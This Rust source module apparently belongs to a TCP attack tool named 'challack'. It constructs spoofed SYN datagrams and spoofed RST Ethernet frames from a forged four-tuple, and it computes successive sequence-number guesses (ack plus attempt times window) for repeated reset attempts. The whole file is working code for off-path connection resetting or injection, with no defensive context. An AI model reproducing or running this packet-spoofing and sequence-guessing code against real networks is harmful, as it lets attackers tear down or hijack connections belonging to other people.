//! Spoofed SYN and RST construction
//!
//! Pure functions: no I/O and no retry. Retry policy belongs to the caller.

use crate::builder::PacketBuilder;
use crate::tcp::TcpFlags;
use challack_core::{Error, FourTuple, MacAddr, Result};
use std::net::Ipv4Addr;

/// Sequence number carried by every spoofed SYN.
///
/// Fixed rather than randomized, which makes the SYN easy to fingerprint.
pub const INITIAL_SEQUENCE: u32 = 10000;

fn endpoints(tuple: &FourTuple) -> Result<(Ipv4Addr, Ipv4Addr)> {
    match (tuple.src_ip, tuple.dst_ip) {
        (Some(src), Some(dst)) => Ok((src, dst)),
        (None, _) => Err(Error::construction(format!("{}missing source address", tuple))),
        (_, None) => Err(Error::construction(format!(
            "{}missing destination address",
            tuple
        ))),
    }
}

/// Build a spoofed SYN as a bare IPv4 datagram (no link layer).
///
/// TTL 64, SYN only, ack and window zero, checksums and lengths filled in.
pub fn build_syn(tuple: &FourTuple, seq: u32) -> Result<Vec<u8>> {
    let (src, dst) = endpoints(tuple)?;

    PacketBuilder::new()
        .ipv4(src, dst)
        .tcp(tuple.src_port, tuple.dst_port, seq, 0, TcpFlags::SYN)
        .build()
}

/// Build a spoofed RST as a complete Ethernet frame.
///
/// `src_hw` and `dst_hw` are written as given; callers answering a captured
/// frame pass that frame's destination and source, in that order.
pub fn build_rst(tuple: &FourTuple, src_hw: MacAddr, dst_hw: MacAddr, seq: u32) -> Result<Vec<u8>> {
    let (src, dst) = endpoints(tuple)?;

    PacketBuilder::new()
        .ethernet(src_hw, dst_hw)
        .ipv4(src, dst)
        .tcp(tuple.src_port, tuple.dst_port, seq, 0, TcpFlags::RST)
        .build()
}

/// Candidate sequence for RST attempt `attempt`: `ack + attempt * window`,
/// wrapping in 32 bits.
pub fn sequence_guess(ack: u32, window: u16, attempt: u32) -> u32 {
    ack.wrapping_add(attempt.wrapping_mul(window as u32))
}
